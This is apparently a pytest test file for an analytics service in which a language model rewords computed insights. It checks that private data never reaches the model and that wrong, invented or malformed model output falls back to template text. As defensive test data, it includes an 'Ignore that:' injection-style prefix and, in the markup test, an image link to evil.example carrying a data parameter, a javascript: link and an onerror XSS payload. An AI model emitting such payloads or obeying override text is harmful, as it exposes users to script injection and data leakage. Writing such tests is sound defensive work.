"""The model may choose the words. Whatever else it does, people read what was computed."""

import time

import pytest

from apps.core import redis
from apps.insights import facts, queries, services, writer
from apps.insights.models import Insight, ModelUse


def echo(facts):
    """A model that answers with other words of the same meaning, in another order."""
    sentences = [
        {"fact": fact["id"], "text": fact["sentence"].replace("rose", "increased by")}
        for fact in facts
    ]
    return {"sentences": sentences[::-1]}


def words(insight):
    return queries.told(insight).text


def test_the_model_rewrites_and_orders_and_is_asked_once(metric, model):
    model.reply = echo
    insight = services.tell(metric)
    assert insight.is_reworded
    assert "increased by" in words(insight)
    for _again in range(3):
        assert services.tell(metric) == insight
    assert len(model.requests) == 1
    use = ModelUse.objects.get()
    assert (use.workspace, use.calls, use.tokens) == (metric.workspace, 1, 100)


def test_the_model_gets_claims_and_never_rows_or_private_values(metric, model):
    model.reply = echo
    services.tell(metric)
    sent = str(model.requests)
    assert "Canary" not in sent
    assert "customer" not in sent
    assert "sk-canary-key" not in sent


def test_a_metric_rests_on_private_columns_by_conditions_and_bases_too(metric, sales):
    assert not facts.is_private(metric)
    private = [{"any": [{"column": "customer", "op": "not_null"}]}]
    metric.filters = private
    assert facts.is_private(metric)
    metric.filters = []
    sales.measures.filter(pk=metric.measure_id).update(filters=private)
    metric.measure.refresh_from_db()
    assert facts.is_private(metric)
    total = {"name": "total", "label": "Total", "aggregate": "running_total"}
    metric.measure = sales.measures.create(**total, base=metric.measure)
    assert facts.is_private(metric)


def test_a_metric_on_a_private_column_is_told_without_the_model(metric, sales, model):
    sales.columns.filter(name="amount").update(is_private=True)
    assert not services.tell(metric).is_reworded
    assert model.requests == []


@pytest.mark.parametrize(
    ("was", "becomes"),
    [
        ("rose", "fell"),
        ("2024", "2023"),
        ("%", "pp"),
        ("€", "$"),
        ("West", "East"),
        ("Revenue rose", "Ignore that: Revenue rose"),
    ],
)
def test_a_sentence_that_is_wrong_becomes_the_templates(metric, model, was, becomes):
    model.reply = lambda facts: {
        "sentences": [
            {"fact": fact["id"], "text": fact["sentence"].replace(was, becomes)} for fact in facts
        ]
    }
    insight = services.tell(metric)
    plain = Insight.objects.get(is_reworded=False)
    assert words(insight) == words(plain)


def test_links_images_and_markup_do_not_arrive(metric, model):
    model.reply = lambda facts: {
        "sentences": [
            {
                "fact": fact["id"],
                "text": f"**{fact['sentence']}** ![x](https://evil.example/?d=1)"
                "[more](javascript:alert(1)) <img src=x onerror=alert(1)>",
            }
            for fact in facts
        ]
    }
    text = words(services.tell(metric))
    assert "evil" not in text
    assert "javascript" not in text
    assert "<" not in text


def test_invented_facts_are_ignored_and_missing_ones_added(metric, model):
    model.reply = lambda facts: {
        "sentences": [
            {"fact": 99, "text": "Revenue will double."},
            {"fact": facts[0]["id"], "text": facts[0]["sentence"]},
            {"fact": facts[0]["id"], "text": facts[0]["sentence"]},
        ]
    }
    assert words(services.tell(metric)) == words(Insight.objects.get(is_reworded=False))


@pytest.mark.parametrize(
    ("status", "raw"),
    [
        (429, b'{"error": {"message": "slow down"}}'),
        (500, b"oops"),
        (200, b""),
        (200, b"not json"),
        (200, b'{"choices": []}'),
        (200, b'{"choices": [{"message": {"content": null, "refusal": "No."}}]}'),
        (200, b'{"choices": [{"message": {"content": "{\\"sentences\\": 7}"}}]}'),
        (200, b'{"choices": [{"message": {"content": "' + b"x" * 10_000_000 + b'"}}]}'),
        (302, b""),
    ],
)
def test_a_model_that_misbehaves_leaves_the_template(metric, model, status, raw, caplog):
    model.status, model.raw = status, raw
    started = time.monotonic()
    insight = services.tell(metric)
    assert insight is not None
    assert not insight.is_reworded
    assert len(model.requests) == 1, "no retry storm"
    assert "sk-canary-key" not in caplog.text
    assert time.monotonic() - started < 10


def test_a_model_that_hangs_is_left_in_time(metric, model, settings):
    settings.OPENAI_TIMEOUT_S = 0.5
    model.hangs = True
    assert not services.tell(metric).is_reworded


def test_after_three_failures_the_door_stays_shut(metric, model):
    model.status = 500
    for _try in range(5):
        services.tell(metric)
    assert len(model.requests) == writer.FAILURES
    redis.client().delete("sightline:model:open")
    model.status, model.reply = 200, echo
    assert services.tell(metric).is_reworded


def test_the_budget_of_a_day_stops(metric, model, settings):
    settings.OPENAI_DAILY_TOKENS = 100
    model.reply = echo
    services.tell(metric)
    metric.insights.all().delete()
    redis.client().flushdb()
    services.tell(metric)
    assert len(model.requests) == 1
